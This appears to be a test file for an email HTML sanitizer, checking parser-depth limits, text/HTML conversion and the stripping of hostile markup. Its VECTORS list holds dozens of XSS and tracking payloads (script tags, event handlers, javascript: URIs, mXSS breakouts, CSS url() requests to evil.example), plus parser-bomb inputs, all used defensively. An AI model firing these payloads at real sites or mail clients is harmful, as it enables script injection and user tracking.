"""Hostile HTML: what is let near a parser, what is left of it, and text made from it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from mailsac import html
from mailsac.html import attribute, clean_html, html_to_text, is_simple, text_to_html


def depth(markup: str) -> int:
    """How deep a real parser nests it."""
    deepest = 0
    root = LexborHTMLParser(markup).root
    level: list[tuple[LexborNode, int]] = [(root, 1)] if root is not None else []
    while level:
        node, number = level.pop()
        deepest = max(deepest, number)
        level += [(child, number + 1) for child in node.iter()]
    return deepest


@pytest.mark.check("C-25")
@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 500,
        "<div><object></div></object>" * 300,
        "<p>" + "".join(f"<b {n}><i {n}>" for n in range(300)) + "x" + "</b>" * 300,
        "<div>" + "".join(f"<b a={n}>" for n in range(200)) + "</div>" + "<p>x</p>" * 2000,
        "<div " + "a " * 5000 + ">",
        "<div " + "a " * 300 + ">" + "<br>" * 500,
        "<select>" + "<option>x" * 3000,
        "<svg>" * 500,
        "<svg>" + "<style><g>" * 500,
        "<svg>" + "<g><![CDATA[></g>]]>" * 500,
        "<table>" * 500,
        "<x" + "y" * 20_000 + ">" + "<br>" * 500,
        "<br>" * 30_000,
        "x" * 1_100_000,
        '<a title="' + "<div>" * 20_000,
        "<div a='></div>'>" * 500,
        "<!--><div>" * 500,
        "<!--a--!><div>" * 500,
        "<div></ div>" * 500,
        "<table><td><svg>" + "<td><svg>" * 500,
    ],
)
def test_what_would_cost_a_parser_too_much_is_not_simple(markup: str) -> None:
    assert not is_simple(markup)


@pytest.mark.parametrize(
    "markup",
    [
        "",
        "plain text",
        "<p>one<p>two" * 1000,
        "<table>" + "<tr><td>" * 2000,
        "<ul>" + "<li>item" * 2000 + "</ul>",
        "<div><span>x</span></div>" * 2000,
        "<b>x</b><br><img src=x>" * 2000,
        "<div>" * 100 + "</div>" * 100 + "<i>x</i>" * 500,
        "<!-- <div> " * 1 + "<div>" * 1000 + " -->" + "<p>x" * 500,
        "<style>" + "a>b<c{}" * 1000 + "</style>" + "<p>x" * 500,
        '<a title="' + "<div>" * 500 + '">x</a>' + "<p>x" * 500,
        '<div ="></div>' * 500,
    ],
)
def test_what_real_mail_does_is_simple(markup: str) -> None:
    assert is_simple(markup)


NAMES = ["div", "span", "b", "i", "a", "p", "table", "td", "tr", "object", "button", "svg", "li", "ul", "font", "h1"]
SOUP = st.lists(
    st.one_of(
        st.sampled_from([f"<{name}>" for name in NAMES] + [f"</{name}>" for name in NAMES]),
        st.sampled_from(
            ["x", "<!-->", "<!--", "-->", "<b a='", "'>", '"', "<br/>", "<g/>", "</", "<", "=", ">", "<style>"]
        ),
    ),
    min_size=1,
    max_size=80,
)


@settings(max_examples=400)
@given(SOUP)
def test_what_is_simple_stays_shallow_in_a_real_parser(soup: list[str]) -> None:
    """Elements that are not counted add a constant: at most table, tbody, tr, td and p per counted one."""
    markup = "".join(soup)
    bounds = pytest.MonkeyPatch()
    with bounds.context() as patch:
        patch.setattr(html, "MAX_DEPTH", 4)
        patch.setattr(html, "FEW_TAGS", -1)
        simple = is_simple(markup)
    if simple:
        assert depth(markup) <= 5 * 4 + 6


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        (":)\r\n", "<div>:)<br></div>"),
        ("a < b & c", "<div>a &lt; b &amp; c</div>"),
        ("", "<div></div>"),
        ("a\rb\nc", "<div>a<br>b<br>c</div>"),
    ],
)
def test_the_page_made_from_text_comes_out_without_its_wrapper(text: str, cleaned: str) -> None:
    assert clean_html(text_to_html(text)) == cleaned


def test_the_page_made_from_text_is_exactly_this() -> None:
    assert text_to_html('<b>:)\r\nx\ry\nz & "q"') == (
        '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8" /></head><body><div>'
        '&lt;b&gt;:)<br />x<br />y<br />z &amp; "q"</div></body></html>'
    )


def test_a_page_of_many_lines_is_cleaned_as_a_page() -> None:
    assert clean_html(text_to_html("line\n" * 50_000)) == "<div>" + "line<br>" * 50_000 + "</div>"


def test_the_wrapper_is_no_way_around_the_cleaner() -> None:
    page = text_to_html("X").replace("X", "<br /><script>alert(1)</script><img src=x>")
    assert clean_html(page) == "<div><br></div>"


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/p.gif">',
    "<image href=https://evil.example/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><feImage href=https://evil.example/></svg>",
    "<svg><use href=https://evil.example/#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
    "<body onload=alert(1) background=https://evil.example/>x",
    "<table background=https://evil.example/><td background=//evil.example/>x",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/\" 1x)'>x</div>",
    "<div style='color:red;list-style:url(//evil.example/)'>x</div>",
    "<div style='content:url(https://evil.example/);cursor:url(https://evil.example/),auto'>x</div>",
    "<div style='font-family:url(https://evil.example/)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:u\\72l(https://evil.example/);color:RGB(1,2,3)'>x</div>",
    "<div style='color:red;/*' onclick='alert(1)*/'>x</div>",
    "<style>@import 'https://evil.example/';</style>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<applet code=https://evil.example/></applet>",
    "<video src=https://evil.example/ poster=https://evil.example/></video>",
    "<audio><source src=https://evil.example/></audio>",
    "<video><track src=https://evil.example/></video>",
    "<picture><source srcset=https://evil.example/><img src=x></picture>",
    "<img srcset='https://evil.example/ 2x' src=x>",
    "<input type=image src=https://evil.example/>",
    "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) onanimationstart=alert(1)>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/'?><p>x",
    "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x",
    "<blockquote cite=https://evil.example/>x</blockquote>",
    "<q cite=https://evil.example/>x</q><ins cite=//evil.example>x</ins>",
    "<html manifest=https://evil.example/>x",
    "<portal src=https://evil.example/></portal>",
    "<a<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<div\x00onclick=alert(1)>x",
    "<script",
    "\x3cscript\x3ealert(1)</script\x0a>",
]
SAFE_TAG = re.compile(r"</?([a-z][a-z0-9]*)((?: [a-z-]+(?:=\"[^\"<>]*\")?)*)>")
ATTRIBUTE = re.compile(r' ([a-z-]+)(?:="([^"]*)")?')
TAGS = {"b", "big", "blockquote", "br", "details", "div", "i", "ins", "p", "q", "span", "table", "tbody", "td", "tr"}
ATTRIBUTES = {"align", "bgcolor", "border", "color", "dir", "height", "lang", "start", "style", "title", "width"}
REQUEST = re.compile(r"url\(|image|://|//evil|expression|script", re.IGNORECASE)


@pytest.mark.check("C-46")
@pytest.mark.check("C-47")
@pytest.mark.parametrize("bombed", [False, True], ids=["small", "beyond the bounds"])
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_requests_is_left(vector: str, bombed: bool) -> None:
    """Whatever is left is text and plain tags: any `<` begins an allowed tag with allowed attributes."""
    cleaned = clean_html(vector + ("<div>" * 1000 if bombed else ""))
    for match in re.finditer("<", cleaned):
        tag = SAFE_TAG.match(cleaned, match.start())
        assert tag is not None, cleaned
        assert tag[1] in TAGS, cleaned
        for name, value in ATTRIBUTE.findall(tag[2]):
            assert name in ATTRIBUTES, cleaned
            assert name != "style" or not REQUEST.search(value), cleaned


def test_cleaning_keeps_the_text_of_links_and_plain_formatting() -> None:
    dirty = '<div style="color:red;position:fixed"><b>Hi</b> <a href="https://example.org/">click</a><img src=x></div>'
    assert clean_html(dirty) == '<div style="color:red"><b>Hi</b> click</div>'


def test_an_image_in_a_data_uri_does_not_make_html_too_long() -> None:
    assert clean_html(f'<p>a<img src="data:image/png;base64,{"A" * 200_000}">b</p>' + "<i>x</i>" * 500).startswith(
        "<p>ab</p>"
    )


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>Hello <b>world</b></p><p>again</p>", "Hello world\n\nagain"),
        ("a<br>b<br/>c<div>d</div>e", "a\nb\nc\nd\ne"),
        ("a\n  b\t c &amp; &lt;d&gt; &nbsp;e", "a b c & <d> \xa0e"),
        ("<ul><li>one<li>two</ul>", "* one\n* two"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<title>T</title><style>p{}</style><script>x</script><p>only</p><!-- no -->", "only"),
        ('<img src="x" alt="A picture"> here', "A picture here"),
        ("1 < 2 and <unknown>3</unknown>", "1 < 2 and 3"),
        ("", ""),
        (
            '<a href="https://example.org/a?x=1&amp;y=2">first</a>, <a href="https://example.org/b">second</a>, '
            '<a href="https://example.org/a?x=1&amp;y=2">first again</a>, <a href="#x">none</a>',
            "first [1], second [2], first again [1], none\n\n[1] https://example.org/a?x=1&y=2\n[2] https://example.org/b",
        ),
    ],
)
def test_text_made_from_html(markup: str, text: str) -> None:
    assert html_to_text(markup) == text


@given(st.text(alphabet="<>/abp ='\"!-&;\n", max_size=200))
def test_any_html_can_be_cleaned_and_read(markup: str) -> None:
    for match in re.finditer("<", clean_html(markup)):
        assert SAFE_TAG.match(clean_html(markup), match.start())
    html_to_text(markup).encode()


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("https://a.com/?token=1&region=eu&section=2&copy=3", "https://a.com/?token=1&region=eu&section=2&copy=3"),
        ("https://a.com/?a=1&amp;b=2&#38;c=3", "https://a.com/?a=1&b=2&c=3"),
        ("https://a.com/&copy", "https://a.com/©"),
    ],
)
def test_a_reference_in_an_attribute_ends_with_a_semicolon_or_is_text(written: str, meant: str) -> None:
    assert attribute(f' href="{written}"', "href") == meant
